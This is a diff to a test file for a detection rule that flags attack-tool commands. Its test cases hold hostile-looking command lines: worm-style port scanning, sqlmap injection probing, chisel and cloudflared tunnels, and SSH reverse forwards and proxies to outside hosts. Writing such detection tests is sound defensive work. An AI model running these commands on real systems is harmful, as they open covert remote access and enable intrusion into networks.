@@ -20,6 +20,8 @@ describe('rule exec-attack-tool', () => {
       ['the scanner of worms', { command: 'pnscan -r6379 10.8.0.0/14 2375' }, MEDIUM],
       ['a terminal that is shared', { command: '/tmp/sshx' }, MEDIUM],
       ['a tunnel', { command: './chisel client 203.0.113.4:8080 R:socks' }, MEDIUM],
+      ['a tunnel of a service', { command: '/tmp/cloudflared-linux-amd64 tunnel --url tcp://localhost:22' }, MEDIUM],
+      ['what tries out forms', { command: 'sqlmap -u http://10.0.0.4/?id=1' }, MEDIUM],
       ['a way back by ssh', { command: 'ssh -fNR 2222:localhost:22 bob@203.0.113.9' }, MEDIUM],
       ['a proxy by ssh', { command: 'ssh -D 1080 bob@203.0.113.9' }, MEDIUM],
     ],
